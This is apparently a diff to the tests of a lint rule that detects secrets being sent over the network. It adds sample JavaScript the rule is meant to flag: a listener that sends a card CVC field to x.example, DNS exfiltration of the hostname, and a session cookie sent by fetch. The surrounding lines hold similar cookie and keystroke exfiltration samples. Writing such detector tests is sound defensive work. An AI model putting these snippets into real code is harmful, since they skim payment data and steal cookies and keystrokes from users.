@@ -34,8 +34,16 @@ describeRule(secretToNetwork, {
       "history.replaceState(null, '', '?s=' + document.cookie);\nnew Image().src = 'https://x.example/1.gif';",
     'a field that is listened to':
       "export const watch = (field) => field.addEventListener('keyup', () => (new Image().src = 'https://x.example/?' + field.value));",
+    'a field under a name of its own':
+      "root.addEventListener('change', (e) => { const field = e.target; if (/cvc/.test(field.name)) new Image().src = 'https://x.example/?' + field.value; });",
+    'a lookup of a module of promises':
+      "import dns from 'node:dns/promises';\nimport { hostname } from 'node:os';\ndns.resolve4(hostname() + '.x.example');",
+    'a member of an object that is spread':
+      "const all = { at: 1, ...JSON.parse(document.cookie) };\nfetch('https://x.example/?' + all.session);",
   },
   leaves: {
+    'a value that is shown':
+      "root.addEventListener('change', (e) => { const field = e.target; if (/cvc/.test(field.name)) show(field.value); });",
     'an error that is shown':
       "try { load(document.cookie); } catch (error) { fetch('https://x.example/?' + error.code); }",
     'an error of another function':
